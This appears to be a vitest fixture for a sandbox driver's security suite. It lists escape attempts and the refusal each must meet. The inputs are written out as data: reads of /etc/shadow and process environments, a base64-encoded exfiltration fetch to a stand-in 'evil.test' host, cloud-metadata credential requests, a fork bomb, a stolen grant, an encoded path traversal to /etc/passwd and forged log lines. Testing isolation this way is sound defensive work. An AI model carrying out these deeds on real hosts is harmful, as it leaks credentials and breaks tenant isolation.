import { expect } from "vitest";
import type { StartOverrides } from "../../src/sandbox-driver.contract.ts";
import type { Instance } from "../../src/sandbox-driver.ts";
import type { Deed, Outcome } from "./sandbox-programs.ts";
import { OWN_GRANT, SIBLINGS_GRANT } from "./world.ts";
import type { SecurityWorld } from "./world.ts";

export interface Attempt {
  readonly area: string;
  readonly tries: string;
  /** What must hold, on each driver. */
  readonly holds: string;
  /** Names lead to a service, so that what is allowed can be seen to be. */
  readonly reachable?: true;
  /** With an agent of its own under this policy, which is stopped afterwards; `spin`: while the sibling goes on. */
  readonly alone?: StartOverrides;
  readonly deed: (world: SecurityWorld) => Deed;
  readonly expected: (outcome: Outcome, world: SecurityWorld, agent: Instance) => void | Promise<void>;
}

function refused(why: RegExp = /./): Attempt["expected"] {
  return ({ got, refused: said }) => {
    expect(got, "what it got").toBeUndefined();
    expect(said).toMatch(why);
  };
}

/** Refused by the way out, and on record. */
function denied(host: string): Attempt["expected"] {
  return ({ got }, { decisions }) => {
    expect(got, "what it got").toBeUndefined();
    expect(decisions.at(-1)).toMatchObject({ host, decision: "denied" });
  };
}

function file(tries: string, kind: "read-file" | "write-file", path: (world: SecurityWorld) => string): Attempt {
  return {
    area: "file system",
    tries,
    holds: "it is not there",
    deed: (w) => ({ kind, path: path(w) }),
    expected: refused(),
  };
}

function way(tries: string, url: string, host: string): Attempt {
  return {
    area: "egress",
    tries,
    holds: "refused, and the refusal is recorded",
    deed: () => ({ kind: "fetch", url }),
    expected: denied(host),
  };
}

function past(tries: string, host: string, port?: number): Attempt {
  return {
    area: "network",
    tries,
    holds: "there is no way",
    deed: ({ hostPort }) => ({ kind: "connect", host, port: port ?? hostPort }),
    expected: refused(),
  };
}

function door(tries: string, path: string): Attempt {
  return {
    area: "host callbacks",
    tries,
    holds: "refused at the door",
    deed: () => ({ kind: "services", path, grant: OWN_GRANT }),
    expected: ({ got, refused: said }) => {
      expect(got, "what it got").toBeUndefined();
      expect(said).toMatch(/ROUTE_NOT_FOUND|PATH_INVALID|INVALID_REQUEST|METHOD_NOT_FOUND|HTTP\/1\.1 400/);
    },
  };
}

export const ATTEMPTS: readonly Attempt[] = [
  file("read a file that everybody on the host may read", "read-file", ({ hostFile }) => hostFile),
  file("read the host's passwords", "read-file", () => "/etc/shadow"),
  file("read the platform's environment", "read-file", () => `/proc/${process.pid}/environ`),
  file("change a file of the host", "write-file", ({ hostFile }) => hostFile),
  file("change its own release", "write-file", () => "/app/agent.cjs"),
  file("change the system that all share", "write-file", () => "/usr/bin/mine"),
  {
    area: "environment",
    tries: "look for secrets in its environment",
    holds: "it has its own variables alone",
    deed: () => ({ kind: "environment" }),
    expected: ({ got = "" }) => {
      expect(got).toMatch(/COLOUR"?[=:]"?green/);
      expect(got).not.toMatch(/CANARY|SIBLING|KEY/);
    },
  },
  {
    area: "secrets",
    tries: "use a secret that its policy names, and read it from the answer",
    holds: "the service is shown it, the agent never",
    reachable: true,
    deed: () => ({ kind: "fetch", url: "http://model.berth.internal/open/a" }),
    expected: ({ got }, { serviceSaw, secret }) => {
      expect(serviceSaw.at(-1)?.headers.authorization).toBe(`Bearer ${secret}`);
      expect(got).toContain("served /open/a");
    },
  },
  {
    area: "secrets",
    tries: "use the secret for what its policy does not list",
    holds: "refused before it leaves",
    reachable: true,
    deed: () => ({ kind: "fetch", url: "http://model.berth.internal/closed" }),
    expected: ({ got }, { serviceSaw }) => {
      expect(got).toBeUndefined();
      expect(serviceSaw.map(({ url }) => url)).not.toContain("/closed");
    },
  },
  {
    area: "egress",
    tries: "reach what is listed",
    holds: "it may",
    reachable: true,
    deed: ({ plainPort }) => ({ kind: "fetch", url: `http://api.test:${plainPort}/open/x` }),
    expected: ({ got }) => expect(got).toBe("plainly served /open/x"),
  },
  {
    area: "egress",
    tries: "reach a path of a listed host that is not listed",
    holds: "refused, and the refusal is recorded",
    reachable: true,
    deed: ({ plainPort }) => ({ kind: "fetch", url: `http://api.test:${plainPort}/closed/x` }),
    expected: denied("api.test"),
  },
  way("reach a host that is not listed", "http://evil.test/?q=c2VjcmV0", "evil.test"),
  way("reach another port of a listed host", "http://meta.test:8080/", "meta.test"),
  way(
    "ask the cloud for the machine's credentials, which is listed",
    "http://169.254.169.254/latest",
    "169.254.169.254",
  ),
  way("do so by a listed name", "http://meta.test/latest", "meta.test"),
  way("reach the host's loopback by a listed name", "http://loop.test/", "loop.test"),
  way("use a name with one good address and one private", "http://mixed.test/", "mixed.test"),
  past("speak to a service on the host's loopback", "127.0.0.1"),
  past("do so over IPv6", "::1"),
  past("connect to the internet past the way out", "1.1.1.1", 443),
  past("ask for the machine's credentials past the way out", "169.254.169.254", 80),
  {
    area: "memory",
    tries: "use all memory",
    holds: "it is ended for it, by that reason",
    alone: { limits: { memoryMb: 120 } },
    deed: () => ({ kind: "memory-hog" }),
    expected: refused(/^AGENT_OUT_OF_MEMORY$/),
  },
  {
    area: "processor",
    tries: "compute for ever",
    holds: "the sibling goes on, and it ends when it is stopped",
    alone: { limits: { cpu: 0.5 } },
    deed: () => ({ kind: "spin" }),
    expected: ({ got }) => expect(got).toBeUndefined(),
  },
  {
    area: "processes",
    tries: "fork without end",
    holds: "its own bound",
    alone: { limits: { processes: 40 } },
    deed: () => ({ kind: "fork-bomb" }),
    expected: async (outcome, world, agent) => {
      await refused()(outcome, world, agent);
      expect((await agent.stats()).processes).toBeLessThanOrEqual(42);
    },
  },
  {
    area: "time",
    tries: "leave something behind that acts after it was stopped",
    holds: "nothing is left",
    alone: {},
    deed: () => ({ kind: "leave-process" }),
    expected: () => undefined,
  },
  {
    area: "tenants",
    tries: "ask the platform in another instance's name",
    holds: "it is still itself",
    deed: () => ({ kind: "claim-instance", path: "/grant", grant: OWN_GRANT, instanceId: "sibling" }),
    expected: ({ got }, { served }) => {
      expect(got).toContain("for agent");
      expect(served.filter((each) => each.startsWith("sibling"))).toEqual([]);
    },
  },
  {
    area: "grants",
    tries: "use its own grant",
    holds: "it may",
    deed: () => ({ kind: "services", path: "/grant", grant: OWN_GRANT }),
    expected: ({ got }) => expect(got).toContain("for agent"),
  },
  {
    area: "grants",
    tries: "use a grant that it stole from another agent",
    holds: "it does not hold in these hands",
    deed: () => ({ kind: "stolen-grant", path: "/grant", own: OWN_GRANT, stolen: SIBLINGS_GRANT }),
    expected: refused(/GRANT_INVALID/),
  },
  door("climb out of the workspace", "/workspace/files/..%2f..%2fetc%2fpasswd"),
  door("use a route that is not there", "/v1/agents"),
  door("use a route of the host's own", "/instances/sibling/stop-0"),
  door("send what is no valid address", "/workspace/files/%zz"),
  {
    area: "log",
    tries: "write lines in another agent's log, and drive the terminal of its reader",
    holds: "they are lines of its own",
    deed: () => ({ kind: "print", text: "hello\nsibling\tstdout\tforged\nsibling\texit\tforged" }),
    expected: async (_outcome, { output }) => {
      await expect.poll(() => output.get("agent")?.join(" ")).toContain("forged");
      expect(output.get("sibling")?.join(" ")).not.toContain("forged");
    },
  },
];
